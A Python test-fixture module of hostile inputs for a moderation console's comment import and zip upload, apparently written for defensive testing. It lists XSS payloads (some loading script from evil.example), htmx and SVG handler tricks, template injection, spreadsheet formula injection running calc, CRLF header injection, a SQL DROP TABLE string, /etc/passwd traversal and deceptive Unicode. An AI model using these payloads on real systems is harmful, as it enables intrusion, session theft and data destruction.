"""Texts that somebody sends to do harm, and how all of them get into a console: through the fields and files by which
text comes in. Each names `__xss` or `/attacked`, so that a test knows when one got its way.
"""

import io
import json
import zipfile

SCRIPTS = [
    "<script>__xss('script')</script>",
    "</script><script>__xss('closed')</script>",
    "<script src=//evil.example/attacked.js></script>",
    "<script type=module>__xss('module')</script>",
    "<ScRiPt>__xss('case')</sCrIpT>",
    "<<script>script>__xss('double')<</script>/script>",
    "<script>/*",
    "--><script>__xss('comment')</script><!--",
    "<!--[if gte IE 4]><script>__xss('cond')</script><![endif]-->",
    "</title><script>__xss('title')</script>",
    "</textarea><script>__xss('textarea')</script>",
    "</option></datalist></select><script>__xss('option')</script>",
    "]]><script>__xss('cdata')</script>",
    "<noscript><p title='</noscript><img src=x onerror=__xss(1)>'>",
    "<template><script>__xss('template')</script></template>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/attacked'>",
    '<meta http-equiv=Content-Security-Policy content="default-src *">',
    "<link rel=stylesheet href=//evil.example/attacked.css>",
    "<link rel=preload as=image href=/attacked.png>",
    "<style>@import '//evil.example/attacked.css';*{display:none}</style>",
]
HANDLERS = [
    "<img src=x onerror=__xss('img')>",
    '"><img src=x onerror=__xss(2)>',
    "'><img src=x onerror=__xss(3)>",
    '" autofocus onfocus=__xss(4) x="',
    "' autofocus onfocus=__xss(5) x='",
    '" onmouseover="__xss(6)" style="position:fixed;inset:0',
    "` onerror=__xss(7) `",
    "<details open ontoggle=__xss(8)>",
    "<video src=/attacked.mp4 onerror=__xss(9)>",
    "<body onload=__xss(10)>",
    "<iframe src=javascript:parent.__xss(11)></iframe>",
    "<iframe srcdoc='<script>parent.__xss(12)</script>'></iframe>",
    "<object data=/attacked.swf></object><embed src=/attacked>",
    "<form action=//evil.example/attacked><button autofocus>go",
    "<input type=image src=/attacked.png formaction=/attacked>",
    "<button form=bulk formaction=/attacked>Approve</button>",
    "<a href=javascript:__xss(13)>click</a>",
    "[click](javascript:__xss(14))",
    "javascript:__xss(15)",
    "data:text/html,<script>__xss(16)</script>",
]
HTMX = [
    "<div hx-get=/attacked hx-trigger=load>",
    "<div data-hx-post=/attacked data-hx-trigger=load>",
    "<p hx-on::load=__xss(20)>",
    "<p hx-on:htmx:load=__xss(21)>",
    "<i hx-swap-oob='innerHTML:#main'>attacked</i>",
    "<i id=main hx-swap-oob=true>attacked</i>",
    "<form hx-delete=/attacked hx-trigger='every 1s'></form>",
    "<p hx-vals='js:{a:__xss(22)}' hx-get=/attacked hx-trigger=revealed>",
    "<a hx-boost=true href=/attacked autofocus>boosted",
    '<p hx-ext=sse sse-connect="/attacked">',
    "<head hx-head=merge><script src=/attacked.js></script></head>",
]
FOREIGN = [
    "<svg onload=__xss(30)>",
    "<svg><script href=data:,__xss(31) /></svg>",
    "<svg><use href='//evil.example/attacked.svg#x'/></svg>",
    "<svg><animate onbegin=__xss(32) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=__xss(33)>",
    "<math href=javascript:__xss(34)>click</math>",
]
TEMPLATES = [
    "{{ 7*7 }}{{ request.user.password }}",
    "{% include 'base.html' %}{% debug %}",
    "{# hidden #}{{ ''.__class__.__mro__ }}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "%(pk)s%s%n%%(body)d",
    "{0.__class__}{player.__class__}{secret}",
    "\\u003cscript\\u003e__xss(40)\\u003c/script\\u003e",
    "&lt;script&gt;__xss(41)&lt;/script&gt;",
    "+ADw-script+AD4-__xss(42)+ADw-/script+AD4-",
    "＜script＞__xss(43)＜/script＞",
]
UNSEEN = [
    "moderator\u202egnp.exe",
    "\u2066\u2067\u2068attacked\u2069 by \u202dnobody",
    "a\u200bt\u200ct\u200da\u2060c\ufeffk\u00ade\u034fd",
    "\u061c\u200e\u200f",
    "z" + "\u0301\u0489\u0353\u036f" * 40 + " algo",
    "ก" + "็" * 60,
    "\x1b[2J\x1b]0;attacked\x07\x9b31m",
    "line\x0bone\x0ctwo\x1cthree\x85four\u2028five\u2029six",
    "\U000e0041\U000e0042\ufe0f\ufffe\uffff",
    "\u3164\u2800\u115f",
    "ﷺ﷽𒐫꧅" * 5,
    "İıſKﬁ①Å" * 4,
]
FORMULAS = ['=HYPERLINK("//evil.example")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1", "＝1+1"]
BREAKERS = [
    "kit\r\nSet-Cookie: sessionid=attacked",
    "kit%0d%0aX-Attacked: yes",
    '"}],"attendant:done":{"verb":"attacked"},"x":[{"',
    "'; DROP TABLE moderation_player; --",
    "../../../../etc/passwd",
    "https://good.example@evil.example/attacked",
    "https://xn--80ak6aa92e.com https://аррӏе.com//evil.example",
    "http://2130706433:8500/manage/?attacked=1",
    "nul\x00byte",
    "A" * 5000,
    "W" * 199,
    "a-" * 90 + "\u00a0" * 20,
]
ATTACKS = [*SCRIPTS, *HANDLERS, *HTMX, *FOREIGN, *TEMPLATES, *UNSEEN, *FORMULAS, *BREAKERS]
ALL = "\n".join(ATTACKS).replace("\0", "")


def rows():
    """Lines for import_comments: each attack as body, as author, and as id of the portal's."""
    for number, text in enumerate(ATTACKS):
        row = {"external_id": f"{number} {text}"[:190], "author": text[:190], "body": text}
        yield json.dumps(row | {"game": "attacked", "ip": f"203.0.113.{number}"})
        yield json.dumps(row | {"external_id": f"refused {number}", "created_at": text, "ip": text, "game": text})
    yield json.dumps({"external_id": "all", "author": "all of them", "body": ALL})


def zip_of(name):
    """A zip with a page, and a file of that name."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr("index.html", f"<title>{name}</title><script src=game.js></script>")
        archive.writestr("game.js", "//")
        archive.writestr(name.replace("\0", "") or "x", name)
    return packed.getvalue()
